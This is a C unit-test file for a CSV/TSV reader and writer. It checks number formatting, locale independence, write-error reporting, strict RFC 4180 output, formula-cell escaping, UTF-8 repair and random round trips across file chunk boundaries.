	DBL(9007199254740993.0, CSV_SHORTEST, "9007199254740992");
	DBL(0.000001, CSV_SHORTEST, "0.000001");
	DBL(0.0, CSV_SHORTEST, "0");
	DBL(-0.0, CSV_SHORTEST, "0");
	DBL(NAN, CSV_SHORTEST, "");
	DBL(INFINITY, 2, "");
	DBL(-INFINITY, CSV_SHORTEST, "");
	DBL(3.14159, 2, "3.14");
	DBL(2.5, 0, "2");
	DBL(1e6, 0, "1000000");
	DBL(1234567.891, 2, "1234567.89");
	DBL(-0.001, 2, "0.00");
	DBL(-0.0, 1, "0.0");
	DBL(-0.006, 2, "-0.01");
	DBL(1.0, 40, "1.00000000000000000000");
	char big[400];
	snprintf(big, sizeof(big), "%.0f", -DBL_MAX);
	cr_assert_eq(strlen(big), 310);
	DBL(-DBL_MAX, 0, big);
}

Test(csv_write, shortest_round_trips)
{
	size_t i;
	union {
		uint64_t u;
		double d;
	} x;

	for (i = 0; i < 50000; i++) {
		x.u = rng();
		if (i % 8 == 1) /* subnormals */
			x.u &= 0x800FFFFFFFFFFFFFu;
		if (i % 4 == 0) /* also plain-sized values */
			x.d = (double)(int64_t)rng() /
			      (double)(1 + rng_below(1000000));
		if (!isfinite(x.d))
			continue;
		char *s = double_str(x.d, CSV_SHORTEST);

		cr_assert(!strchr(s, ',') && !strchr(s, ' '));
		cr_assert(strtod(s, NULL) == x.d, "%s != %.17g", s, x.d);
		/* and no shorter string would do */
		char dig[40];
		size_t nd = 0, lead = 0;
		for (const char *p = s; *p && *p != 'e'; p++)
			if (*p >= '0' && *p <= '9')
				dig[nd++] = *p;
		while (lead < nd && dig[lead] == '0')
			lead++;
		while (nd > lead && dig[nd - 1] == '0')
			nd--;
		nd -= lead; /* significant digits */
		if (nd > 1) {
			char shorter[40];

			snprintf(shorter, sizeof(shorter), "%.*e", (int)nd - 2,
			         x.d);
			cr_assert(strtod(shorter, NULL) != x.d,
			          "%s, but %s reads back too", s, shorter);
		}
		if (fabs(x.d) >= 1e-7 && fabs(x.d) < 1e21)
			cr_assert(!strchr(s, 'e'), "%s", s);
		free(s);
	}
}

/*
 * Switch LC_NUMERIC to a locale with a decimal comma: a system one, or
 * else a tiny one compiled with localedef into dir (LC_NUMERIC only, so
 * it builds in well under a second).
 */
static bool
comma_locale(char *dir)
{
	static const char *const names[] = {"de_DE.UTF-8", "de_DE.utf8",
	                                    "fr_FR.UTF-8"};
	struct strbuf sb = STRBUF_INIT;
	FILE *fp;
	size_t i;

	for (i = 0; i < LEN(names); i++)
		if (setlocale(LC_NUMERIC, names[i]))
			return true;
	if (!mkdtemp(dir))
		return false;
	strbuf_addf(&sb, "%s/comma", dir);
	if (!(fp = fopen(sb.buf, "w")))
		return false;
	fputs("LC_NUMERIC\ndecimal_point \"<U002C>\"\n"
	      "thousands_sep \"<U002E>\"\ngrouping 3;3\nEND LC_NUMERIC\n",
	      fp);
	fclose(fp);
	strbuf_reset(&sb);
	/* -c: the other categories are missing on purpose */
	strbuf_addf(&sb,
	            "localedef -c -i %s/comma -f UTF-8 %s/xx_XX.UTF-8 "
	            ">/dev/null 2>&1",
	            dir, dir);
	if (system(sb.buf) == -1)
		return false;
	strbuf_release(&sb);
	setenv("LOCPATH", dir, 1);
	return setlocale(LC_NUMERIC, "xx_XX.UTF-8") != NULL;
}

static void
rm_rf(const char *dir)
{
	struct strbuf sb = STRBUF_INIT;

	strbuf_addf(&sb, "rm -rf '%s'", dir);
	cr_assert_neq(system(sb.buf), -1);
	strbuf_release(&sb);
}

Test(csv_write, decimal_point_ignores_locale)
{
	char dir[] = "/tmp/test_csv_loc.XXXXXX";
	bool ok = comma_locale(dir);

	if (strcmp(dir + strlen(dir) - 6, "XXXXXX"))
		rm_rf(dir); /* the compiled locale is loaded already */
	if (!ok)
		cr_skip_test("no locale with a decimal comma");
	cr_assert_str_eq(localeconv()->decimal_point, ",");
	DBL(-2.5, CSV_SHORTEST, "-2.5");
	DBL(-2.5, 1, "-2.5");
	DBL(1234567.891, 2, "1234567.89");
	DBL(0.30000000000000004, CSV_SHORTEST, "0.30000000000000004");
	DBL(1.5e300, CSV_SHORTEST, "1.5e+300");
	DBL(-0.001, 2, "0.00");
	setlocale(LC_NUMERIC, "C");
}

Test(csv_write, write_errors_reported)
{
	FILE *fp = fopen("/dev/full", "w");
	struct csv_writer w;
	size_t i;

	if (!fp)
		cr_skip_test("no /dev/full");
	csv_writer_init(&w, fp, CSV_RFC4180, false);
	w.name = "out.csv";
	for (i = 0; i < 100000; i++) {
		csv_put_text(&w, "some text, quoted");
		csv_end_record(&w);
	}
	cr_assert_eq(csv_writer_error(&w), ST_IOERR);
	cr_assert_str_eq(err_msg(),
	                 "cannot write 'out.csv': No space left on device");
	fclose(fp);

	/* even when everything still sits in the stdio buffer */
	fp = fopen("/dev/full", "w");
	csv_writer_init(&w, fp, CSV_RFC4180, true);
	csv_put_int(&w, 1);
	csv_end_record(&w);
	cr_assert_eq(csv_writer_error(&w), ST_IOERR);
	cr_assert_str_eq(err_msg(), "cannot write output: No space left on "
	                            "device");
	fclose(fp);
}

/* ------------------------------------------------------------------ */
/* strict RFC 4180 check and random round trips */

/*
 * Parse s strictly by RFC 4180's grammar: escaped fields with doubled
 * quotes only, non-escaped fields without , " CR LF, CRLF after every
 * record including the last, the same field count everywhere.  Also our
 * own rules for text cells: no unquoted leading/trailing space and no
 * formula character first (after spaces) unless behind a '.
 * Returns the number of records.
 */
static size_t
rfc4180_check(const char *s, size_t n, size_t nfields)
{
	struct strbuf f = STRBUF_INIT;
	size_t pos = 0, nrec = 0, nf, i;
	bool quoted;

	while (pos < n) {
		nf = 0;
		for (;;) {
			strbuf_reset(&f);
			quoted = s[pos] == '"';
			if (quoted) {
				for (pos++;; pos++) {
					cr_assert(pos < n, "unbalanced quote");
					if (s[pos] != '"') {
						strbuf_addch(&f, s[pos]);
						continue;
					}
					if (pos + 1 < n && s[pos + 1] == '"') {
						strbuf_addch(&f, '"');
						pos++;
						continue;
					}
					pos++;
					break;
				}
			} else {
				while (pos < n && !strchr(",\"\r\n", s[pos]))
					strbuf_addch(&f, s[pos++]);
				cr_assert(pos == n || s[pos] != '"',
				          "quote in unquoted field at %zu",
				          pos);
				cr_assert(!f.len || (f.buf[0] != ' ' &&
				                     f.buf[f.len - 1] != ' '),
				          "unquoted space at %zu", pos);
			}
			for (i = 0; i < f.len && f.buf[i] == ' '; i++)
				;
			cr_assert(i == f.len || !strchr("=+-@\t\r", f.buf[i]),
			          "formula cell '%s'", f.buf);
			nf++;
			cr_assert(pos < n, "last record without CRLF");
			if (s[pos] == ',') {
				pos++;
				continue;
			}
			cr_assert(s[pos] == '\r' && pos + 1 < n &&
			              s[pos + 1] == '\n',
			          "record %zu does not end in CRLF", nrec + 1);
			pos += 2;
			break;
		}
		cr_assert_eq(nf, nfields, "record %zu has %zu fields", nrec + 1,
		             nf);
		nrec++;
	}
	strbuf_release(&f);
	return nrec;
}

/*
 * The reference repair, written independently from lib/csv.c: the
 * WHATWG "UTF-8 decode" algorithm, dropping NUL.
 */
static void
ref_repair(struct strbuf *out, const unsigned char *s, size_t n)
{
	size_t i, start = 0, needed = 0, seen = 0;
	unsigned lower = 0x80, upper = 0xBF;

	for (i = 0; i <= n; i++) {
		if (i == n) {
			if (needed)
				strbuf_adds(out, "\xEF\xBF\xBD");
			break;
		}
		unsigned b = s[i];
		if (!needed) {
			start = i;
			if (b == 0)
				;
			else if (b <= 0x7F)
				strbuf_addch(out, (int)b);
			else if (b >= 0xC2 && b <= 0xDF)
				needed = 1;
			else if (b >= 0xE0 && b <= 0xEF) {
				lower = b == 0xE0 ? 0xA0 : 0x80;
				upper = b == 0xED ? 0x9F : 0xBF;
				needed = 2;
			} else if (b >= 0xF0 && b <= 0xF4) {
				lower = b == 0xF0 ? 0x90 : 0x80;
				upper = b == 0xF4 ? 0x8F : 0xBF;
				needed = 3;
			} else
				strbuf_adds(out, "\xEF\xBF\xBD");
			continue;
		}
		if (b < lower || b > upper) {
			needed = seen = 0;
			lower = 0x80;
			upper = 0xBF;
			strbuf_adds(out, "\xEF\xBF\xBD");
			i--; /* prepend b to the stream */
			continue;
		}
		lower = 0x80;
		upper = 0xBF;
		if (++seen == needed) {
			strbuf_add(out, s + start, i + 1 - start);
			needed = seen = 0;
		}
	}
}

/* What a text cell should read back as. */
static void
expected_cell(struct strbuf *out, const char *raw, size_t n, bool tsv)
{
	struct strbuf rep = STRBUF_INIT;
	size_t i;

	ref_repair(&rep, (const unsigned char *)raw, n);
	for (i = 0; i < rep.len && rep.buf[i] == ' '; i++)
		;
	if (i < rep.len && strchr("=+-@\t\r", rep.buf[i]))
		strbuf_addch(out, '\'');
	for (i = 0; i < rep.len; i++)
		if (tsv && strchr("\t\r\n", rep.buf[i]))
			strbuf_addch(out, ' ');
		else
			strbuf_addch(out, rep.buf[i]);
	strbuf_release(&rep);
}

/* Random bytes, rich in what matters to CSV. */
static size_t
random_cell(char *buf, size_t max)
{
	static const char *const bits[] = {",",
	                                   "\"",
	                                   "\r",
	                                   "\n",
	                                   "\r\n",
	                                   "=",
	                                   "-",
	                                   "@",
	                                   "+",
	                                   "\t",
	                                   " ",
	                                   "\0",
	                                   "''",
	                                   "\xC3\xA9",
	                                   "\xE2\x82\xAC",
	                                   "\xF0\x9F\x98\x80",
	                                   "\xE4\xB8",
	                                   "\xFF",
	                                   "\xC0\x80",
	                                   "\xED\xA0\x80",
	                                   "\xEF\xBB\xBF",
	                                   "x",
	                                   "42"};
	size_t n = 0, len = rng_below(4) ? rng_below(12) : rng_below(200);

	while (n < len) {
		if (rng_below(3) == 0) {
			buf[n++] = (char)rng_below(256);
		} else {
			const char *b = bits[rng_below(LEN(bits))];
			size_t bl = b[0] ? strlen(b) : 1;

			if (n + bl > max)
				break;
			memcpy(buf + n, b, bl);
			n += bl;
		}
		if (n >= max)
			break;
	}
	return n;
}

struct table {
	size_t nrec, nf;
	struct strbuf *want; /* nrec * nf expected cells */
};

/* Write a random table with the writer; fill t->want. */
static char *
write_random(struct table *t, size_t nrec, size_t nf, enum csv_dialect d,
             bool bom, size_t *len)
{
	char raw[512];
	struct out o;
	size_t i, j, n;

	t->nrec = nrec;
	t->nf = nf;
	t->want = xcalloc(nrec * nf, sizeof(*t->want));
	out_open(&o, d, bom);
	for (i = 0; i < nrec; i++) {
		for (j = 0; j < nf; j++) {
			struct strbuf *want = &t->want[i * nf + j];

			strbuf_init(want, 0);
			do {
				strbuf_reset(want);
				n = random_cell(raw, sizeof(raw));
				expected_cell(want, raw, n, d == CSV_TSV);
				/*
				 * TSV cannot quote a first cell that starts
				 * with U+FEFF: readers take it for a BOM
				 */
			} while (d == CSV_TSV && !bom && !i && !j &&
			         !strncmp(want->buf, "\xEF\xBB\xBF", 3));
			csv_put_text_len(&o.w, raw, n);
		}
		csv_end_record(&o.w);
	}
	cr_assert_eq(o.w.nrecords, nrec);
	return out_close(&o, len);
}

static void
read_back(struct csv_reader *r, struct table *t, bool tsv)
{
	size_t i, j;
	bool eof;

	if (tsv)
		csv_reader_set_separator(r, '\t');
	for (i = 0; i < t->nrec; i++) {
		cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
		cr_assert(!eof);
		cr_assert_eq(csv_nfields(r), t->nf);
		for (j = 0; j < t->nf; j++) {
			struct strbuf *w = &t->want[i * t->nf + j];

			cr_assert_eq(csv_field_len(r, j), w->len,
			             "record %zu field %zu", i, j);
			cr_assert(!memcmp(csv_field(r, j), w->buf, w->len),
			          "record %zu field %zu: '%s' want '%s'", i, j,
			          csv_field(r, j), w->buf);
		}
	}
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert(eof);
}

static void
table_free(struct table *t)
{
	size_t i;

	for (i = 0; i < t->nrec * t->nf; i++)
		strbuf_release(&t->want[i]);
	free(t->want);
}

Test(csv_roundtrip, random_records_through_memory)
{
	size_t round, len;

	for (round = 0; round < 300; round++) {
		struct table t;
		size_t nf = 1 + rng_below(6);
		char *csv = write_random(&t, 1 + rng_below(30), nf, CSV_RFC4180,
		                         round % 2, &len);
		struct csv_reader *r = mem_reader(csv, len);

		cr_assert_eq(rfc4180_check(csv + (round % 2 ? 3 : 0),
		                           len - (round % 2 ? 3 : 0), nf),
		             t.nrec);
		read_back(r, &t, false);
		csv_reader_free(r);
		table_free(&t);
		free(csv);
	}
}

Test(csv_roundtrip, random_records_through_a_file)
{
	/* several MB, so records straddle the reader's 64 KiB chunks */
	struct table t;
	size_t len;
	char *csv = write_random(&t, 40000, 5, CSV_RFC4180, true, &len);
	char *path = write_tmp(csv, len);
	struct csv_reader *r;

	cr_assert(len > 4 * 65536);
	cr_assert_eq(rfc4180_check(csv + 3, len - 3, 5), 40000);
	cr_assert_eq(csv_reader_open(&r, path), ST_OK);
	read_back(r, &t, false);
	csv_reader_free(r);
	unlink(path);
	free(path);
	table_free(&t);
	free(csv);
}

Test(csv_roundtrip, tsv)
{
	size_t round, len;

	for (round = 0; round < 100; round++) {
		struct table t;
		/* two fields or more: a lone empty TSV field is a blank line */
		char *csv =
		    write_random(&t, 1 + rng_below(30), 2 + rng_below(4),
		                 CSV_TSV, false, &len);
		struct csv_reader *r = mem_reader(csv, len);
		size_t i, nl = 0;

		for (i = 0; i < len; i++) {
			cr_assert(csv[i] != '\r');
			nl += csv[i] == '\n';
		}
		cr_assert_eq(nl, t.nrec);
		read_back(r, &t, true);
		csv_reader_free(r);
		table_free(&t);
		free(csv);
	}
}

/* Chunk boundaries at every interesting spot: compare file and memory. */
Test(csv_roundtrip, chunk_boundaries)
{
	static const char *const tails[] = {
	    "\"a\"\"b\",c\r\n", "\"a\",b\r\nx,y\r\n", "a,b\r\ncd,ef\n",
	    "\"\n\n\",z\n", "\"q\",\"\"\"\"\n"};
	size_t t, pad, shift;

	for (t = 0; t < LEN(tails); t++) {
		for (shift = 0; shift < 16; shift++) {
			struct strbuf sb = STRBUF_INIT;

			strbuf_adds(&sb, "\xEF\xBB\xBFh1,h2\n");
			/* the tail starts 12 - shift bytes before 64 KiB */
			pad = 65536 - 4 - 12 + shift;
			strbuf_adds(&sb, "\"");
			while (sb.len < pad)
				strbuf_addch(&sb, 'p');
			strbuf_adds(&sb, "\",p\n");
			strbuf_adds(&sb, tails[t]);
			char *path = write_tmp(sb.buf, sb.len);
			struct csv_reader *a, *b;
			bool ea, eb;
			enum status sa, sb2;

			cr_assert_eq(csv_reader_open(&a, path), ST_OK);
			b = mem_reader(sb.buf, sb.len);
			do {
				sa = csv_read(a, &ea);
				sb2 = csv_read(b, &eb);
				cr_assert_eq(sa, sb2);
				cr_assert_eq(ea, eb);
				cr_assert_eq(csv_nfields(a), csv_nfields(b));
				cr_assert_eq(csv_line(a), csv_line(b));
				for (size_t i = 0; i < csv_nfields(a); i++)
					cr_assert_str_eq(csv_field(a, i),
					                 csv_field(b, i));
			} while (sa == ST_OK && !ea);
			cr_assert_eq(sa, ST_OK, "%s", err_msg());
			csv_reader_free(a);
			csv_reader_free(b);
			unlink(path);
			free(path);
			strbuf_release(&sb);
		}
	}
}

/* ------------------------------------------------------------------ */
/*
 * Regressions found by tests/fuzz/fuzz_csv.c: none so far (6 minutes,
 * about 400 000 inputs).  Add each crash input here as a test.
 */
